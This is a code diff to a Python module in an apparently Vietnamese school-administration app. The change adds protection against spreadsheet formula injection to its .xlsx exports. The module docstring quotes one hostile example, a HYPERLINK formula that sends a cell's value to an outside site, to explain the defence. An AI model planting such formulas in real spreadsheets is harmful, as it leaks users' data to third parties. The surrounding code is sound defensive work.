@@ -1,16 +1,101 @@
-"""Write a table to .xlsx: the one place every export (roll-ups, consolidated tables) goes through."""
+"""Write .xlsx: the one place every workbook giaoban produces is made and saved (templates, roll-ups,
+consolidated tables, and any later export), so that no user's text ever becomes a live formula.
+
+Rules every export gets by going through this module:
+
+- **Text is text.** giaoban never writes a formula into a cell. A string that begins with ``=``, ``+``,
+  ``-``, ``@``, a tab or a CR (what Excel, LibreOffice and CSV readers treat as the start of a formula) is
+  written as a text cell with Excel's quote prefix, so it shows exactly as typed and stays text even when
+  someone edits the cell (``=HYPERLINK("http://x/?"&A1)`` in a narrative would otherwise send a cell's
+  value to another site). ``workbook_bytes`` enforces it for every cell of every sheet before saving, so
+  a writer that assigned a string directly is covered too.
+- **Numbers stay numbers** (int, float, Decimal -> float): Excel formats them in the reader's locale.
+- **Only what XML can carry**: control characters that .xlsx cannot hold are stripped (line breaks and
+  tabs kept; see giaoban.core.text.clean_text), so old stored text cannot make an export fail.
+
+Use ``new_workbook()``, ``put()`` / ``append()`` to write cells and ``workbook_bytes()`` to save;
+``table_to_xlsx()`` builds a whole table export from them.
+"""
 
 from __future__ import annotations
 
 import io
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from decimal import Decimal
+from typing import Any
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell as XlCell
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
 
+from giaoban.core.text import clean_text
+
+__all__ = ["FORMULA_STARTS", "Cell", "append", "cell_value", "new_workbook", "put", "sheet_name", "table_to_xlsx", "workbook_bytes"]
+
 Cell = str | int | float | Decimal | None
+
+# What makes a spreadsheet program (or a CSV reader) take text for a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell_value(value: Any) -> Any:
+    """A value as a cell may hold it: text cleaned of what XML cannot carry, Decimal as float, the rest
+    as given (int, float, dates, None)."""
+    if isinstance(value, Decimal):
+        return float(value)
+    if isinstance(value, str):
+        return clean_text(value)
+    return value
+
+
+def _as_text(cell: XlCell, text: str) -> None:
+    # Set the type after the value: openpyxl's setter marks a string starting with "=" as a formula.
+    cell.value = text
+    cell.data_type = "s"
+    if text.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
+
+
+def put(ws, row: int, column: int, value: Any = None) -> XlCell:
+    """Write `value` into (row, column) of `ws` by the rules above and return the cell."""
+    cell = ws.cell(row=row, column=column)
+    value = cell_value(value)
+    if isinstance(value, str):
+        _as_text(cell, value)
+    else:
+        cell.value = value
+    return cell
+
+
+def append(ws, values: Iterable[Any]) -> int:
+    """Append a row after the last one by the rules above; returns its row number."""
+    row = ws.max_row + 1 if ws.max_row > 1 or ws.cell(1, 1).value is not None else 1
+    for column, value in enumerate(values, start=1):
+        put(ws, row, column, value)
+    return row
+
+
+def new_workbook() -> Workbook:
+    """An empty workbook (no default sheet) to fill with put()/append() and save with workbook_bytes()."""
+    wb = Workbook()
+    wb.remove(wb.active)
+    return wb
+
+
+def workbook_bytes(wb: Workbook) -> bytes:
+    """Save the workbook after making every cell safe: a formula (giaoban writes none, so it can only be
+    someone's text) becomes text, formula-like text gets the quote prefix, and text is cleaned."""
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type in ("f", "s", "str", "inlineStr") and isinstance(cell.value, str):
+                    text = clean_text(cell.value)
+                    if cell.data_type == "f" or text != cell.value or text.startswith(FORMULA_STARTS):
+                        _as_text(cell, text)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
 
 
 def table_to_xlsx(
@@ -18,37 +103,32 @@ def table_to_xlsx(
 ) -> bytes:
     """sheets: (sheet name, headers, rows). Numbers stay numbers (Excel formats them in the
     reader's locale: 56.000 in Vietnamese Excel); a title, if given, goes above each table."""
-    wb = Workbook()
-    wb.remove(wb.active)
+    wb = new_workbook()
     for name, headers, rows in sheets:
-        ws = wb.create_sheet(_sheet_name(name))
+        ws = wb.create_sheet(sheet_name(name))
         if title:
-            ws.append([title])
-            ws["A1"].font = Font(bold=True, size=13)
-            ws.append([])
-        ws.append(list(headers))
-        header_row = ws.max_row
-        for cell in ws[header_row]:
-            cell.font = Font(bold=True)
-            cell.alignment = Alignment(wrap_text=True, vertical="center")
-        for row in rows:
-            ws.append([float(v) if isinstance(v, Decimal) else v for v in row])
-        for row in ws.iter_rows(min_row=header_row + 1):
-            for cell in row:
-                if isinstance(cell.value, int | float):
-                    cell.number_format = "#,##0" if float(cell.value).is_integer() else "#,##0.0##"
+            put(ws, 1, 1, title).font = Font(bold=True, size=13)
+        header_row = 3 if title else 1
+        for column, header in enumerate(headers, start=1):
+            c = put(ws, header_row, column, str(header))
+            c.font = Font(bold=True)
+            c.alignment = Alignment(wrap_text=True, vertical="center")
+        for n, row in enumerate(rows, start=header_row + 1):
+            for column, value in enumerate(row, start=1):
+                c = put(ws, n, column, value)
+                if isinstance(c.value, int | float) and not isinstance(c.value, bool):
+                    c.number_format = "#,##0" if float(c.value).is_integer() else "#,##0.0##"
         ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
         for i, header in enumerate(headers, start=1):
             width = max(
                 [len(str(header))] + [len(str(r[i - 1])) for r in rows if i - 1 < len(r) and r[i - 1] is not None]
             )
             ws.column_dimensions[get_column_letter(i)].width = min(max(width + 2, 8), 60)
-    out = io.BytesIO()
-    wb.save(out)
-    return out.getvalue()
+    return workbook_bytes(wb)
 
 
-def _sheet_name(name: str) -> str:
-    # Excel forbids []:*?/\ in sheet names and caps them at 31 characters.
-    cleaned = "".join("-" if c in "[]:*?/\\" else c for c in name).strip() or "Sheet"
+def sheet_name(name: str) -> str:
+    """A valid sheet name: Excel forbids []:*?/\\ and ' at the ends, and caps names at 31 characters."""
+    cleaned = "".join("-" if c in "[]:*?/\\" else c for c in clean_text(name).replace("\n", " ").replace("\t", " "))
+    cleaned = cleaned.strip().strip("'").strip() or "Sheet"
     return cleaned[:31]
